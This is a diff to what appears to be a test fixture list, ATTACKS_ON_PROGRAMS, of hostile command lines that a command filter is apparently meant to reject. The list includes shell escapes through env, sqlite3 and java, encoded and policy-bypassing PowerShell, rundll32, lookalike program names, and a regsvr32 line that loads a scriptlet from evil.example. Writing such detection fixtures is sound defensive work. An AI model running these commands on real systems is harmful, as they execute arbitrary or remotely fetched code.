@@ -55,7 +55,6 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
       'env --split-string="bash -c id" node /opt/server.js',
       'env -vS "bash -c id"',
       'java -XX:OnError=calc -jar /opt/x.jar',
-      'sqlite3 :memory: ".shell id"',
     ],
   },
   {
@@ -121,6 +120,7 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
       'wsl.exe -d Ubuntu -- bash -c id',
       'wsl --distribution Ubuntu --exec sh -c id',
       'cmd /c calc',
+      'cmd /c powershell -enc SQBFAFgA',
       'cmd.exe /C start evil',
       'cmd /k evil',
       'cmd /d /s /c evil',
@@ -133,9 +133,7 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
       'powershell -ep bypass -File C:\\Users\\jane\\x.ps1',
       'busybox sh -c id',
       'nu -c id',
-      'conhost.exe cmd /c evil',
       'winpty bash -c id',
-      'doas sh -c id',
       'nodemon --exec "bash -c id" /opt/server.js',
     ],
   },
@@ -149,7 +147,6 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
       'pwsh -enc SQBFAFgA',
       'pwsh.exe /EncodedCommand SQBFAFgA',
       'powershell –enc SQBFAFgA',
-      'cmd /c powershell -enc SQBFAFgA',
       'npx -p good powershell -enc SQBFAFgA',
     ],
   },
@@ -157,6 +154,9 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
     kind: 'a tool of the system',
     code: 'system-program',
     rows: [
+      'sqlite3 :memory: ".shell id"',
+      'conhost.exe cmd /c evil',
+      'doas sh -c id',
       'osascript -e "do shell script id"',
       'rundll32 evil.dll,Run',
       'regsvr32 /s /u /i:http://evil.example/x.sct scrobj.dll',
@@ -303,7 +303,12 @@ export const ATTACKS_ON_PROGRAMS: readonly Kind[] = [
   },
   {
     kind: 'letters that only look like those of a program',
-    rows: ['n\u043ede /opt/server.js', 'np\u0445 -y good', '\uff4eode /opt/server.js', 'd\u043ecker run -i img'],
+    rows: [
+      'n\u043ede /opt/server.js',
+      'np\u0445 -y good',
+      '\uff4eode /opt/server.js',
+      'd\u043ecker run -i img',
+    ],
   },
   {
     kind: 'characters that nobody sees',
